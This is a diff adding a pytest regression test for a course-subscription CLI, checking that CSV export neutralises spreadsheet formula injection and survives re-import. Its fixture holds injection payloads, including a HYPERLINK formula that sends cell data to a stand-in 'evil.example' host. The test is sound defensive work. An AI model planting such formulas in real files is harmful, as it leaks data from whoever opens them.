@@ -282,3 +282,60 @@ def test_five_thousand_rows_are_all_enrolled(
     assert count(ready, "enrollments", "status = 'active'") == 5000
     assert count(ready, "subscribers") == 5000
     assert "enrolments:   active 5000" in ok(cli("status")).out
+
+
+# Security finding 4: names and addresses that a spreadsheet would run as formulas. Each address is
+# valid (RFC 5322 atext has `=`, `+`, `-` and `'`), so the address cell needs the escape too.
+FORMULA_PEOPLE = {
+    "ann@example.com": '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
+    "bob@example.com": "+1+2",
+    "cat@example.com": "-2+3",
+    "dee@example.com": "@SUM(A1:A2)",
+    "=1+1@example.com": "Eve Rowe",
+    "-2+3@example.com": "'Til Death",  # already starts with the escape: written with one more
+    "'fay@example.com": "Fay Moss",
+}
+
+
+def test_an_export_runs_no_formula_in_a_spreadsheet_and_imports_back_unchanged(
+    cli: CliRunner, ready: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    for email, name in FORMULA_PEOPLE.items():
+        ok(
+            cli(
+                "subscribe",
+                "--course",
+                "runners",
+                f"--name={name}",
+                "--confirmed",
+                "--now",
+                NOW,
+                "--",
+                email,
+            )
+        )
+    exported = tmp_path / "export.csv"
+    exported.write_bytes(ok(cli("subscribers", "export")).out.encode("utf-8"))
+
+    with exported.open(newline="", encoding="utf-8") as stream:
+        header, *cells = list(csv.reader(stream))
+    assert header[:2] == ["email", "name"] and len(cells) == len(FORMULA_PEOPLE)
+    for row in cells:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    written = {email: name for email, name, *_ in cells}
+    assert written == {
+        "'" + email if email[0] in "=-'" else email: "'" + name if name[0] in "=+-@'" else name
+        for email, name in FORMULA_PEOPLE.items()
+    }
+
+    fresh = tmp_path / "fresh.db"
+    monkeypatch.setenv("DRIPCOURSE_DATABASE_URL", f"sqlite:///{fresh}")
+    ok(cli("db", "upgrade"))
+    ok(cli("courses", "sync"))
+    imported = ok(import_csv(cli, exported, "--confirmed"))
+    assert f"imported {len(FORMULA_PEOPLE)}, already enrolled 0, skipped 0" in imported.out
+
+    assert ok(cli("subscribers", "export")).out.encode("utf-8") == exported.read_bytes()
+    with sqlite3.connect(fresh) as connection:
+        stored = dict(connection.execute("SELECT email, name FROM subscribers").fetchall())
+    assert stored == FORMULA_PEOPLE
